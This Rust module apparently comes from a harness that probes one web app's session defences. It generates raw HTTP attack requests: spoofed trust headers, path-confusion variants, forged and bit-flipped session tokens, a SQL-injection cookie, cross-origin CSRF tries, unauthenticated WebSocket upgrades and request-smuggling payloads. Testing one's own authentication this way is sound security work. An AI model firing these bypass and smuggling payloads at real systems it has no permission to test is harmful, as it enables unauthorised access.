//! Every attempt, as the bytes that go out.

use super::{Attempt, Target};

/// Headers that some server somewhere takes somebody's word for.
const MAGIC: [(&str, &str); 46] = [
    ("X-Original-URL", "{path}"),
    ("X-Rewrite-URL", "{path}"),
    ("X-Override-URL", "{path}"),
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Forwarded-For", "10.0.0.1"),
    ("X-Forwarded-Host", "localhost"),
    ("X-Forwarded-Proto", "https"),
    ("X-Forwarded-Port", "443"),
    ("X-Forwarded-User", "D1001"),
    ("X-Forwarded-Email", "D1001"),
    ("X-Forwarded-Preferred-Username", "D1001"),
    ("X-Forwarded-Groups", "admin"),
    ("X-Forwarded-Client-Cert", "Subject=\"CN=D1001\""),
    ("X-Forwarded-Path", "{path}"),
    ("X-Forwarded-Prefix", "/"),
    ("Forwarded", "for=127.0.0.1;host=localhost;proto=https"),
    ("X-Real-IP", "127.0.0.1"),
    ("X-Client-IP", "127.0.0.1"),
    ("X-Originating-IP", "127.0.0.1"),
    ("X-Remote-IP", "127.0.0.1"),
    ("X-Remote-Addr", "127.0.0.1"),
    ("X-Custom-IP-Authorization", "127.0.0.1"),
    ("True-Client-IP", "127.0.0.1"),
    ("CF-Connecting-IP", "127.0.0.1"),
    ("X-HTTP-Method-Override", "GET"),
    ("X-HTTP-Method", "GET"),
    ("X-Method-Override", "GET"),
    ("Remote-User", "D1001"),
    ("X-Remote-User", "D1001"),
    ("X-Authenticated-User", "D1001"),
    ("X-WEBAUTH-USER", "D1001"),
    ("X-User-Id", "1"),
    ("X-User-Role", "school_supervisor"),
    ("X-Admin", "true"),
    ("X-Debug", "1"),
    ("X-Api-Key", "admin"),
    ("X-Auth-Token", "{token}"),
    ("X-Session-Id", "{token}"),
    ("Authorization", "Bearer {token}"),
    ("Authorization", "Basic RDEwMDE6RDEwMDE="),
    ("Authorization", "Bearer null"),
    ("Authorization", "Negotiate TlRMTVNTUAAB"),
    ("X-SSL-Client-Verify", "SUCCESS"),
    ("X-Client-Cert", "-----BEGIN CERTIFICATE-----"),
    ("X-Accel-Redirect", "{path}"),
    ("X-Sendfile", "{path}"),
];

/// What servers and proxies may take for the same path, or cut off.
const PATHS: [&str; 44] = [
    "/{path}",
    "//{path}",
    "/.{path}",
    "/./{path}",
    "/x/..{path}",
    "/%2e{path}",
    "/%2e%2e{path}",
    "/x/%2e%2e{path}",
    "/..;{path}",
    "/x/..;{path}",
    "{path}/",
    "{path}//",
    "{path}/.",
    "{path}/..",
    "{path}/%2e",
    "{path};",
    "{path};x=1",
    "{path};.json",
    "{path}.",
    "{path}..",
    "{path}.json",
    "{path}.html",
    "{path}.css",
    "{path}%00",
    "{path}%00.css",
    "{path}%20",
    "{path}%09",
    "{path}%0a",
    "{path}%23",
    "{path}%3f",
    "{path}?",
    "{path}?auth=1&admin=true",
    "{path}?token={token}",
    "{path}?__Host-xunke={token}",
    "{path}?access_token={token}&user=D1001",
    "{path}#/api/session",
    "/api/session/..{path}",
    "/api/session/link/../..{path}",
    "/api/openapi.json/..{path}",
    "/api/openapi.json;{path}",
    "/api/session%2f..{path}",
    "/assets/..{path}",
    "https://{host}{path}",
    "http://evil.example{path}",
];

const METHODS: [&str; 13] = [
    "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get", "Get", "GETS",
    "TRACK", "QUERY",
];

/// Cookies with the real token in a place where it counts for nothing.
const COOKIES: [&str; 20] = [
    "xunke={token}",
    "__host-xunke={token}",
    "__HOST-XUNKE={token}",
    "__Secure-xunke={token}",
    "Host-xunke={token}",
    "x__Host-xunke={token}",
    "__Host-xunke2={token}",
    "__Host-xunke[]={token}",
    "__Host-xunke:{token}",
    "__Host-xunke =={token}",
    "__Host-xunke=\"{token}\"",
    "__Host-xunke='{token}'",
    "__Host-xunke={token},",
    "__Host-xunke={token}; __Host-xunke={token}",
    "__Host-xunke=x; __Host-xunke={token}",
    "__Host-xunke={token}; __Host-xunke=x",
    "__Host-xunke=; session={token}",
    "__Host-xunke=null",
    "__Host-xunke=admin",
    "__Host-xunke=' OR '1'='1",
];

impl Target {
    fn token(&self) -> &str {
        self.cookie.split_once('=').map_or("", |(_, token)| token)
    }

    fn fill(&self, text: &str, path: &str) -> String {
        let text = text
            .replace("{path}", path)
            .replace("{token}", self.token());
        text.replace("{host}", &self.host)
    }

    /// A request with these lines more.
    fn request(&self, method: &str, target: &str, lines: &[String]) -> Vec<u8> {
        let host = &self.host;
        let mut text = format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\n");
        let body = if method == "GET" || method == "HEAD" {
            ""
        } else {
            "{}"
        };
        if !lines.iter().any(|line| line.starts_with("Origin:")) {
            text += &format!("Origin: https://{host}\r\n");
        }
        lines.iter().for_each(|line| text += &format!("{line}\r\n"));
        if !body.is_empty() {
            text += "Content-Type: application/json\r\nContent-Length: 2\r\n";
        }
        (text + "\r\n" + body).into_bytes()
    }
}

/// Every attempt there is.
pub fn all(target: &Target) -> Vec<Attempt> {
    let kinds = [
        headers(target),
        paths(target),
        methods(target),
        cookies(target),
        tokens(target),
        foreign(target),
        upgrades(target),
        smuggled(target),
    ];
    kinds.concat()
}

fn attempt(kind: &'static str, bytes: Vec<u8>) -> Attempt {
    Attempt {
        kind,
        bytes,
        spoils: false,
    }
}

/// One magic header, and every two of them.
fn headers(target: &Target) -> Vec<Attempt> {
    let mut all = vec![];
    for (method, path) in &target.routes {
        let line = |(name, value): &(&str, &str)| format!("{name}: {}", target.fill(value, path));
        for (n, one) in MAGIC.iter().enumerate() {
            let asked = target.request(method, path, &[line(one)]);
            all.push(attempt("magic header", asked));
            // The header that names a path is put on a request for an open one.
            let open = target.request("GET", "/api/openapi.json", &[line(one)]);
            all.push(attempt("magic header on an open route", open));
            for other in MAGIC.iter().skip(n + 1) {
                let asked = target.request(method, path, &[line(one), line(other)]);
                all.push(attempt("two magic headers", asked));
            }
        }
    }
    all
}

fn paths(target: &Target) -> Vec<Attempt> {
    let mut all = vec![];
    for (method, path) in &target.routes {
        let upper = path.to_ascii_uppercase();
        let slashes = path.replace('/', "//");
        let encoded = path.replacen("/api/", "/api%2f", 1);
        let twice = path.replacen("/api/", "/api%252f", 1);
        let dotted = path.replacen("/api/", "/api/./", 1);
        let letter = path.replacen("/api", "/%61pi", 1);
        let back = path.replace('/', "\\");
        for odd in [upper, slashes, encoded, twice, dotted, letter, back] {
            all.push(attempt("path", target.request(method, &odd, &[])));
        }
        for shape in PATHS {
            let odd = target.fill(shape, path);
            all.push(attempt("path", target.request(method, &odd, &[])));
        }
    }
    all
}

fn methods(target: &Target) -> Vec<Attempt> {
    let tricks = |(own, path): &(String, String)| {
        let others = METHODS.iter().filter(|method| *method != own);
        let asked = others.map(|method| target.request(method, path, &[]));
        asked.collect::<Vec<_>>()
    };
    let all = target.routes.iter().flat_map(tricks);
    // What HEAD answers cannot be told from what comes next.
    let spoils = |bytes: Vec<u8>| Attempt {
        kind: "method",
        spoils: bytes.starts_with(b"HEAD"),
        bytes,
    };
    all.map(spoils).collect()
}

fn cookies(target: &Target) -> Vec<Attempt> {
    let mut all = vec![];
    for (method, path) in &target.routes {
        let csrf = format!("X-CSRF-Token: {}", target.csrf);
        for shape in COOKIES {
            let cookie = format!("Cookie: {}", target.fill(shape, path));
            let asked = target.request(method, path, &[cookie, csrf.clone()]);
            all.push(attempt("cookie", asked));
        }
        let cookie = format!("Cookie: {}", target.cookie);
        let asked = target.request(method, path, &[cookie.clone(), cookie, csrf]);
        all.push(attempt("cookie", asked));
    }
    all
}

/// The real token with each bit turned, cut at each place, and otherwise not quite it.
fn tokens(target: &Target) -> Vec<Attempt> {
    let real = target.token();
    let mut tokens: Vec<String> = vec![];
    for (at, byte) in real.bytes().enumerate() {
        let turned = (0..7).map(|bit| byte ^ (1 << bit));
        let fits = |byte: &u8| byte.is_ascii_graphic() && !b";,\"\\=".contains(byte);
        for turned in turned.filter(fits) {
            let mut bytes = real.as_bytes().to_vec();
            bytes[at] = turned;
            tokens.extend(String::from_utf8(bytes).ok());
        }
        tokens.push(real[..at].to_owned());
        tokens.push(real[at + 1..].to_owned());
    }
    tokens.push(format!("{real}A"));
    tokens.push(format!("{real}{real}"));
    tokens.push(format!("{real}%00"));
    tokens.push(real.chars().rev().collect());
    tokens.push(real.to_ascii_uppercase());
    tokens.push(real.to_ascii_lowercase());
    tokens.push(target.csrf.clone());
    tokens.retain(|token| token != real);
    let mut all = vec![];
    for (method, path) in &target.routes {
        for token in &tokens {
            let lines = [
                format!("Cookie: __Host-xunke={token}"),
                format!("X-CSRF-Token: {}", target.csrf),
            ];
            all.push(attempt("token", target.request(method, path, &lines)));
        }
    }
    all
}

/// The real session from a page that is not ours, or without the page's own token.
fn foreign(target: &Target) -> Vec<Attempt> {
    let cookie = format!("Cookie: {}", target.cookie);
    let csrf = format!("X-CSRF-Token: {}", target.csrf);
    let host = &target.host;
    let origins = [
        "https://evil.example".to_owned(),
        "null".to_owned(),
        format!("http://{host}"),
        format!("https://{host}.evil.example"),
        format!("https://evil.{host}"),
        format!("https://{host}@evil.example"),
        "https://localhost".to_owned(),
        format!("https://{host}/"),
        String::new(),
    ];
    let mut all = vec![];
    let changing = target.routes.iter().filter(|(method, _)| method != "GET");
    for (method, path) in changing {
        for origin in &origins {
            let lines = [format!("Origin: {origin}"), cookie.clone(), csrf.clone()];
            all.push(attempt(
                "foreign page",
                target.request(method, path, &lines),
            ));
        }
        let broken = ["", "x", &target.csrf[1..], &target.csrf[..8]];
        for token in broken {
            let lines = [cookie.clone(), format!("X-CSRF-Token: {token}")];
            all.push(attempt("CSRF token", target.request(method, path, &lines)));
        }
    }
    for origin in &origins {
        let lines = upgrade([format!("Origin: {origin}"), cookie.clone()]);
        all.push(attempt(
            "foreign upgrade",
            target.request("GET", "/api/live", &lines),
        ));
    }
    all
}

fn upgrade(more: [String; 2]) -> Vec<String> {
    let own = [
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    ];
    own.map(str::to_owned).into_iter().chain(more).collect()
}

/// A live line without a session, however it is asked for.
fn upgrades(target: &Target) -> Vec<Attempt> {
    let token = target.token();
    let more = [
        "X-Nothing: 1".to_owned(),
        format!("Sec-WebSocket-Protocol: {token}"),
        format!("Sec-WebSocket-Protocol: bearer, {token}"),
        format!("Authorization: Bearer {token}"),
        format!("Cookie: xunke={token}"),
        "Sec-WebSocket-Extensions: permessage-deflate".to_owned(),
    ];
    let mut all = vec![];
    for path in [
        "/api/live",
        "/api/live?token={token}",
        "/api/live/",
        "//api/live",
        "/api/events",
    ] {
        for line in &more {
            let lines = upgrade([line.clone(), "X-Other: 1".into()]);
            let asked = target.request("GET", &target.fill(path, path), &lines);
            all.push(attempt("upgrade", asked));
        }
    }
    all
}

/// A second request inside what one reader takes for the body of the first. No session anywhere.
fn smuggled(target: &Target) -> Vec<Attempt> {
    let host = &target.host;
    let mut all = vec![];
    for (method, path) in &target.routes {
        let inner = format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
        let (length, chunk) = (
            inner.len(),
            format!("{:x}\r\n{inner}\r\n0\r\n\r\n", inner.len()),
        );
        let head = format!(
            "POST /api/session HTTP/1.1\r\nHost: {host}\r\n\
            Origin: https://{host}\r\nContent-Type: application/json\r\n"
        );
        for text in [
            format!("{head}Content-Length: 0\r\n\r\n{inner}"),
            format!("{head}Content-Length: 2\r\n\r\n{{}}{inner}"),
            format!("{head}Content-Length: {length}\r\n\r\n{inner}{inner}"),
            format!("{head}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{inner}"),
            format!("{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{chunk}"),
            format!("{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"),
            format!("{head}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{inner}"),
            format!("{head}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{inner}"),
            format!("{head}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}"),
            format!("{head}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n{inner}"),
            format!("{head}Content-Length: -1\r\n\r\n{inner}"),
            format!("{head}Content-Length: +2\r\n\r\n{{}}{inner}"),
            format!("{head}\nX: y\n\n{inner}"),
            format!("{head} folded: 1\r\n\r\n{inner}"),
            format!("{method} {path}\r\n\r\n"),
            format!("{method} {path} HTTP/1.0\r\n\r\n"),
            format!("{method} {path} HTTP/0.9\r\n\r\n"),
            format!("{method} {path} HTTP/2.0\r\nHost: {host}\r\n\r\n"),
            format!("\r\n\r\n{method} {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("{method}\t{path}\tHTTP/1.1\r\nHost: {host}\r\n\r\n"),
            format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nHost: evil\r\n\r\n"),
            format!("CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n{inner}"),
            format!("GET /api/openapi.json HTTP/1.1\r\nHost: {host}\r\n\r\n{inner}"),
        ] {
            all.push(Attempt {
                kind: "smuggled",
                bytes: text.into_bytes(),
                spoils: true,
            });
        }
    }
    all
}
